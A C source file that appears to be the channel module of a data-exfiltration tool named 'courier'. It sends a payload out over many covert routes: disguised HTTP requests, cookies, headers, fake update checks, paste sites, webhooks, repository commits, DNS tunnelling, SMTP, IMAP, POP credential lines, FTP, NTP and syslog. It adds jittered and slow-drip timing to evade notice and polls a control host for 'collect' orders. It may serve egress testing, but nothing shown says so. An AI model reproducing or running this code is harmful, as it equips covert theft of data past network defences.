#define _POSIX_C_SOURCE 200809L
#include "channels.h"

#include "../scan.h"
#include "../send.h"
#include "../socket.h"
#include "encode.h"

#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define BOUNDARY "----part7MA4YWxkTrZu0gW"
#define NOT_HERE (-100)
/* Letters of the payload in one label of a name. */
#define LABEL 60

static int is(const char *text, const char *wanted) {
    return strcmp(text, wanted) == 0;
}

/* How writing is spread over time. */
static size_t pieces(const struct task *task) {
    return is(task->timing, "chunks")       ? 4
           : is(task->timing, "slow-drip") ? 24
           : is(task->timing, "jitter")    ? 8
                                           : 1;
}

static void pause_after(void *context, size_t piece) {
    const struct task *task = context;
    unsigned char draws[8];
    long millis = 0;
    if (is(task->timing, "chunks")) {
        millis = 5;
    } else if (is(task->timing, "slow-drip")) {
        millis = 12;
    } else if (is(task->timing, "jitter")) {
        drawn(task->seed, "jitter", draws, sizeof draws);
        millis = 1 + draws[piece % sizeof draws] % 30;
    }
    if (millis > 0) {
        struct timespec time = {0, millis * 1000000};
        nanosleep(&time, NULL);
    }
}

/* HTTP. */

static int request(const struct task *task, const unsigned char *payload, size_t len, size_t parts) {
    struct text path = {0}, body = {0}, value = {0};
    const char *fields[8] = {NULL}, *channel = task->channel;
    struct request one = {
        .method = "POST",
        .clear = task->port != 443,
        .agent = "courier/1.0",
        .host = task->host,
        .port = task->port,
        .path = "/v1/submit",
        .content_type = "application/octet-stream",
        .fields = fields,
        .pieces = parts,
        .after = parts > 1 ? pause_after : NULL,
        .context = (void *)task,
    };
    int get = 0;
    text_bytes(&body, "", 0);
    if (is(channel, "http-post") || is(channel, "https")) {
        text_bytes(&body, payload, len);
    } else if (is(channel, "http-put")) {
        one.method = "PUT";
        one.path = "/v1/items/7";
        text_bytes(&body, payload, len);
    } else if (is(channel, "http-query")) {
        get = 1;
        text_string(&path, "/v1/check?v=3&d=");
        text_bytes(&path, payload, len);
        text_string(&path, "&t=1");
    } else if (is(channel, "http-path")) {
        get = 1;
        text_string(&path, "/v1/items/");
        text_bytes(&path, payload, len);
        text_string(&path, "/state");
    } else if (is(channel, "http-cookie") || is(channel, "http-header")) {
        get = 1;
        text_string(&path, "/v1/state");
        text_string(&value, is(channel, "http-cookie") ? "s=1; state=" : "");
        text_bytes(&value, payload, len);
        fields[0] = is(channel, "http-cookie") ? "cookie" : "x-client-state";
        fields[1] = (const char *)value.bytes;
    } else if (is(channel, "update-check")) {
        get = 1;
        text_string(&path, "/v1/version?build=314");
        text_string(&value, "\"");
        text_bytes(&value, payload, len);
        text_string(&value, "\"");
        fields[0] = "if-none-match";
        fields[1] = (const char *)value.bytes;
    } else if (is(channel, "http-multipart")) {
        one.path = "/v1/report";
        one.content_type = "multipart/form-data; boundary=" BOUNDARY;
        text_string(&body, "--" BOUNDARY "\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\n"
                           "report\r\n--" BOUNDARY "\r\nContent-Disposition: form-data; "
                           "name=\"file\"; filename=\"part.bin\"\r\nContent-Type: "
                           "application/octet-stream\r\n\r\n");
        text_bytes(&body, payload, len);
        text_string(&body, "\r\n--" BOUNDARY "--\r\n");
    } else if (is(channel, "object-store")) {
        one.method = "PUT";
        one.path = "/reports/2026/part-0001?partNumber=1&uploadId=AbCdEf";
        one.content_type = "binary/octet-stream";
        fields[0] = "x-amz-content-sha256";
        fields[1] = "UNSIGNED-PAYLOAD";
        fields[2] = "x-amz-date";
        fields[3] = "20260105T120000Z";
        text_bytes(&body, payload, len);
    } else if (is(channel, "code-repository")) {
        one.method = "PUT";
        one.path = "/repos/reference/notes/contents/notes.txt";
        one.content_type = "application/json";
        fields[0] = "accept";
        fields[1] = "application/json";
        text_string(&body, "{\"content\":");
        text_json(&body, payload, len);
        text_string(&body, ",\"message\":\"sync\"}");
    } else if (is(channel, "paste-site")) {
        one.path = "/api/api_post.php";
        one.content_type = "application/x-www-form-urlencoded";
        text_string(&body, "api_option=paste&api_paste_code=");
        for (size_t i = 0; i < len; i++) {
            if (isalnum(payload[i]) || (payload[i] != 0 && strchr("-._*", payload[i]) != NULL)) {
                text_bytes(&body, payload + i, 1);
            } else if (payload[i] == ' ') {
                text_string(&body, "+");
            } else {
                text_format(&body, "%%%02X", payload[i]);
            }
        }
    } else if (is(channel, "webhook")) {
        one.path = "/hooks/T024/B07/x1";
        one.content_type = "application/json";
        text_string(&body, "{\"text\":");
        text_json(&body, payload, len);
        text_string(&body, "}");
    } else if (is(channel, "chat-api")) {
        one.path = "/api/chat.postMessage";
        one.content_type = "application/json";
        text_string(&body, "{\"channel\":\"general\",\"text\":");
        text_json(&body, payload, len);
        text_string(&body, ",\"unfurl\":false}");
    } else if (is(channel, "dns-over-https")) {
        one.path = "/dns-query";
        one.content_type = "application/dns-message";
        fields[0] = "accept";
        fields[1] = "application/dns-message";
        text_bytes(&body, payload, len);
    } else {
        return NOT_HERE;
    }
    if (get) {
        one.method = "GET";
        one.path = (const char *)path.bytes;
        one.content_type = NULL;
        /* As the native component, which always says a length. */
        size_t next = fields[0] == NULL ? 0 : 2;
        fields[next] = "content-length";
        fields[next + 1] = "0";
    } else {
        one.body = body.bytes;
        one.body_len = body.len;
    }
    int status = send_request(&one);
    text_free(&path);
    text_free(&body);
    text_free(&value);
    return status < 0 ? status : 0;
}

static int by_http(const struct task *task, const unsigned char *payload, size_t len) {
    size_t count = pieces(task);
    if (!is(task->timing, "chunks")) {
        return request(task, payload, len, count);
    }
    size_t each = (len + count - 1) / count;
    each = each == 0 ? 1 : each;
    for (size_t at = 0, number = 0; at < len; at += each, number++) {
        int failed = request(task, payload + at, len - at < each ? len - at : each, 1);
        if (failed) {
            return failed;
        }
        pause_after((void *)task, number);
    }
    return 0;
}

static int get(const char *host, const char *path, const char *wanted) {
    struct text answer = {0};
    struct request one = {.method = "GET", .host = host, .port = 443, .path = path,
                          .agent = "courier/1.0", .answer = &answer};
    int status = send_request(&one);
    int found = status >= 0 && answer.bytes != NULL && strstr((char *)answer.bytes, wanted) != NULL;
    text_free(&answer);
    return found;
}

int fetch_update(void) {
    return get("update.vendor.example", "/v1/signatures", "signatures") ? 0 : -1;
}

int ordered(const char *machine, size_t len, int orders) {
    char path[200];
    snprintf(path, sizeof path, "/v1/orders?m=%.*s", (int)len, machine);
    return get(orders ? "control.vendor.example" : "silence.vendor.example", path, "\"collect\"");
}

/* Connections, and protocols in which the server speaks first. */

struct talk {
    struct connection connection;
    char held[4096];
    size_t at, end;
};

static int talk_open(struct talk *talk, const char *host, uint16_t port) {
    struct address address;
    talk->at = talk->end = 0;
    return look_up(host, &address) != 0 ? -10 : tcp_open(&talk->connection, &address, port);
}

/* Reads a line; the first letters of it stay in `line`. */
static int talk_line(struct talk *talk, char *line, size_t room) {
    size_t len = 0;
    for (;;) {
        if (talk->at == talk->end) {
            talk->at = 0;
            talk->end = tcp_read(&talk->connection, talk->held, sizeof talk->held);
            if (talk->end == 0) {
                return -11;
            }
        }
        char byte = talk->held[talk->at++];
        if (byte == '\n') {
            line[len] = 0;
            return 0;
        }
        if (len + 1 < room) {
            line[len++] = byte;
        }
    }
}

/* Says a line and takes the last line of the answer (RFC 5321, 4.2.1: `250-…` goes on). */
static int talk_ask(struct talk *talk, const void *line, size_t len, char *answer, size_t room) {
    char own[256];
    answer = answer == NULL ? own : answer;
    room = answer == own ? sizeof own : room;
    struct text said = {0};
    text_bytes(&said, line, len);
    text_string(&said, "\r\n");
    int failed = tcp_write(&talk->connection, said.bytes, said.len);
    text_free(&said);
    while (!failed) {
        failed = talk_line(talk, answer, room);
        if (!failed && !(strlen(answer) > 3 && answer[3] == '-' && answer[0] != '*')) {
            break;
        }
    }
    return failed;
}

static int ask(struct talk *talk, const char *line) {
    return talk_ask(talk, line, strlen(line), NULL, 0);
}

static int paced(struct connection *connection, const struct task *task, const void *bytes,
                 size_t len) {
    size_t count = pieces(task), each = (len + count - 1) / count, number = 0;
    for (size_t at = 0; at < len; at += each, number++) {
        size_t piece = len - at < each ? len - at : each;
        if (tcp_write(connection, (const char *)bytes + at, piece) != 0) {
            return -12;
        }
        pause_after((void *)task, number);
    }
    return 0;
}

static int raw_tcp(const struct task *task, const unsigned char *payload, size_t len) {
    struct talk talk;
    int failed = talk_open(&talk, task->host, task->port);
    if (failed) {
        return failed;
    }
    failed = paced(&talk.connection, task, payload, len);
    tcp_finish(&talk.connection);
    while (!failed && tcp_read(&talk.connection, talk.held, sizeof talk.held) > 0) {
    }
    tcp_close(&talk.connection);
    return failed;
}

/* Lines as they are, and what has none in lines of 76 letters. */
static void mail_text(const unsigned char *payload, size_t len, struct text *out) {
    int word = 1;
    for (size_t i = 0; i < len; i++) {
        word &= isalnum(payload[i]) || (payload[i] != 0 && strchr("+/=-_", payload[i]) != NULL);
    }
    for (size_t at = 0; at < len || (!word && at == len);) {
        size_t end = at, next;
        if (word) {
            end = len - at < 76 ? len : at + 76;
            next = end;
        } else {
            while (end < len && payload[end] != '\n') {
                end++;
            }
            next = end + 1;
            end -= end > at && payload[end - 1] == '\r';
        }
        text_string(out, end > at && payload[at] == '.' ? "." : "");
        text_bytes(out, payload + at, end - at);
        text_string(out, "\r\n");
        at = next;
    }
}

static int smtp(const struct task *task, const unsigned char *payload, size_t len) {
    struct talk talk;
    char line[256];
    int failed = talk_open(&talk, task->host, task->port);
    if (failed) {
        return failed;
    }
    static const char *const before[] = {"EHLO courier", "MAIL FROM:<state@courier.example>",
                                         "RCPT TO:<intake@courier.example>", "DATA"};
    failed = talk_line(&talk, line, sizeof line);
    for (size_t i = 0; i < 4 && !failed; i++) {
        failed = ask(&talk, before[i]);
    }
    struct text text = {0};
    static const char head[] =
        "From: state@courier.example\r\nTo: intake@courier.example\r\nSubject: state\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n";
    mail_text(payload, len, &text);
    failed = failed ? failed : tcp_write(&talk.connection, head, sizeof head - 1);
    failed = failed ? failed : paced(&talk.connection, task, text.bytes, text.len);
    failed = failed ? failed : ask(&talk, ".");
    failed = failed ? failed : ask(&talk, "QUIT");
    text_free(&text);
    tcp_close(&talk.connection);
    return failed;
}

static int imap(const struct task *task, const unsigned char *payload, size_t len) {
    struct talk talk;
    char line[256];
    int failed = talk_open(&talk, task->host, task->port);
    if (failed) {
        return failed;
    }
    failed = talk_line(&talk, line, sizeof line);
    failed = failed ? failed : ask(&talk, "a1 LOGIN state courier");
    snprintf(line, sizeof line, "a2 APPEND Drafts {%zu}", len);
    failed = failed ? failed : ask(&talk, line);
    failed = failed ? failed : paced(&talk.connection, task, payload, len);
    failed = failed ? failed : ask(&talk, "");
    failed = failed ? failed : tcp_write(&talk.connection, "a3 LOGOUT\r\n", 11);
    while (!failed && strncmp(line, "* BYE", 5) != 0) {
        failed = talk_line(&talk, line, sizeof line);
    }
    tcp_close(&talk.connection);
    return failed;
}

/* Lines of a verb and a piece of the payload. */
static int verbs(struct talk *talk, const struct task *task, const char *first, const char *second,
                 size_t each, const unsigned char *payload, size_t len) {
    int failed = 0;
    for (size_t at = 0, number = 0; at < len && !failed; at += each, number++) {
        struct text line = {0};
        text_format(&line, "%s ", number % 2 == 0 ? first : second);
        text_bytes(&line, payload + at, len - at < each ? len - at : each);
        failed = talk_ask(talk, line.bytes, line.len, NULL, 0);
        text_free(&line);
        pause_after((void *)task, number);
    }
    return failed ? failed : ask(talk, "QUIT");
}

static int pop(const struct task *task, const unsigned char *payload, size_t len) {
    struct talk talk;
    char line[256];
    int failed = talk_open(&talk, task->host, task->port);
    if (failed) {
        return failed;
    }
    failed = talk_line(&talk, line, sizeof line);
    failed = failed ? failed : verbs(&talk, task, "USER", "PASS", 200, payload, len);
    tcp_close(&talk.connection);
    return failed;
}

static int ftp(const struct task *task, const unsigned char *payload, size_t len) {
    struct talk talk, data;
    char line[256];
    int failed = talk_open(&talk, task->host, task->port);
    if (failed) {
        return failed;
    }
    failed = talk_line(&talk, line, sizeof line);
    failed = failed ? failed : ask(&talk, "USER anonymous");
    failed = failed ? failed : ask(&talk, "PASS courier");
    if (!failed && is(task->channel, "ftp-mkdir")) {
        failed = verbs(&talk, task, "MKD", "MKD", 120, payload, len);
    } else if (!failed) {
        failed = ask(&talk, "TYPE I");
        failed = failed ? failed : talk_ask(&talk, "EPSV", 4, line, sizeof line);
        const char *port = failed ? NULL : strstr(line, "|||");
        failed = port == NULL ? -13 : talk_open(&data, task->host, (uint16_t)atoi(port + 3));
        if (!failed) {
            failed = ask(&talk, "STOR part.bin");
            failed = failed ? failed : paced(&data.connection, task, payload, len);
            tcp_finish(&data.connection);
            tcp_close(&data.connection);
        }
        failed = failed ? failed : talk_line(&talk, line, sizeof line);
        failed = failed ? failed : ask(&talk, "QUIT");
    }
    tcp_close(&talk.connection);
    return failed;
}

/* Names and datagrams. */

/* A question for labels of the payload below a name (RFC 1035, 4.1). */
static void query(const unsigned char *payload, size_t len, const char *before, const char *below,
                  unsigned kind, unsigned id, struct text *out) {
    unsigned char head[12] = {(unsigned char)(id >> 8), (unsigned char)id, 1, 0, 0, 1};
    text_bytes(out, head, sizeof head);
    for (size_t at = 0; at < len; at += LABEL) {
        unsigned char count = (unsigned char)(len - at < LABEL ? len - at : LABEL);
        text_bytes(out, &count, 1);
        text_bytes(out, payload + at, count);
    }
    const char *names[] = {before, below};
    for (int i = 0; i < 2; i++) {
        for (const char *at = names[i]; *at != 0;) {
            size_t count = strcspn(at, ".");
            unsigned char byte = (unsigned char)count;
            text_bytes(out, &byte, 1);
            text_bytes(out, at, count);
            at += count + (at[count] == '.');
        }
    }
    unsigned char tail[5] = {0, 0, (unsigned char)kind, 0, 1};
    text_bytes(out, tail, sizeof tail);
}

static int resolver(struct address *address) {
    size_t len;
    unsigned char *bytes = read_file("/etc/resolv.conf", &len);
    int found = -14;
    for (size_t at = 0; bytes != NULL && at < len && found != 0;) {
        char line[128] = "", name[64] = "";
        size_t end = at;
        while (end < len && bytes[end] != '\n') {
            end++;
        }
        snprintf(line, sizeof line, "%.*s", (int)(end - at), bytes + at);
        if (sscanf(line, "nameserver %63s", name) == 1 && strchr(name, ':') == NULL) {
            found = look_up(name, address);
        }
        at = end + 1;
    }
    free(bytes);
    return found;
}

static int names(const struct task *task, const unsigned char *payload, size_t len) {
    int txt = is(task->channel, "dns-txt"), label = is(task->channel, "dns-label");
    int many = is(task->channel, "dns-many"), https = is(task->channel, "dns-over-https");
    size_t each = txt ? LABEL : label ? 3 * LABEL : 2 * LABEL;
    struct address address;
    struct datagrams socket;
    int failed = https ? 0 : resolver(&address);
    failed = failed || https ? failed : udp_open(&socket, &address, task->port);
    if (failed) {
        return failed;
    }
    for (size_t at = 0, number = 0; at < len && !failed; at += each, number++) {
        struct text one = {0};
        unsigned char id[2];
        char before[32] = "";
        drawn((uint64_t)task->seed + number, "query id", id, 2);
        if (many) {
            snprintf(before, sizeof before, "s%zu", number);
        }
        query(payload + at, len - at < each ? len - at : each, before, task->host, txt ? 16 : 1,
              (unsigned)id[0] << 8 | id[1], &one);
        if (https) {
            failed = request(task, one.bytes, one.len, 1);
        } else {
            failed = udp_send(&socket, one.bytes, one.len);
            failed = failed ? failed : udp_receive(&socket);
        }
        text_free(&one);
        pause_after((void *)task, number);
    }
    if (!https) {
        udp_close(&socket);
    }
    return failed;
}

static int datagrams(const struct task *task, const unsigned char *payload, size_t len) {
    int ntp = is(task->channel, "ntp-body"), syslog = is(task->channel, "syslog");
    int multicast = is(task->channel, "multicast-name");
    size_t each = ntp || syslog ? 400 : multicast ? 120 : 1000;
    struct address address;
    struct datagrams socket;
    int failed = look_up(multicast ? "224.0.0.251" : task->host, &address);
    failed = failed ? failed : udp_open(&socket, &address, task->port);
    if (failed) {
        return failed;
    }
    for (size_t at = 0, number = 0; at < len && !failed; at += each, number++) {
        struct text one = {0};
        size_t piece = len - at < each ? len - at : each;
        if (multicast) {
            char label[64];
            snprintf(label, sizeof label, "%.*s", (int)strcspn(task->host, "."), task->host);
            query(payload + at, piece, label, "local", 1, 0, &one);
        } else {
            unsigned char head[48] = {0x23};
            text_bytes(&one, head, ntp ? sizeof head : 0);
            text_string(&one, syslog ? "<134>1 - - courier - - - state=" : "");
            text_bytes(&one, payload + at, piece);
        }
        failed = udp_send(&socket, one.bytes, one.len);
        text_free(&one);
        pause_after((void *)task, number);
    }
    udp_close(&socket);
    return failed;
}

int carry(const struct task *task, const unsigned char *payload, size_t len) {
    static const struct {
        const char *name;
        int (*carry)(const struct task *, const unsigned char *, size_t);
    } others[] = {
        {"raw-tcp", raw_tcp},       {"smtp", smtp},         {"imap", imap},
        {"pop-auth", pop},          {"ftp-upload", ftp},    {"ftp-mkdir", ftp},
        {"dns-label", names},       {"dns-txt", names},     {"dns-many", names},
        {"dns-over-https", names},  {"raw-udp", datagrams}, {"ntp-body", datagrams},
        {"syslog", datagrams},      {"multicast-name", datagrams},
    };
    for (size_t i = 0; i < sizeof others / sizeof *others; i++) {
        if (is(task->channel, others[i].name)) {
            return others[i].carry(task, payload, len);
        }
    }
    return by_http(task, payload, len);
}
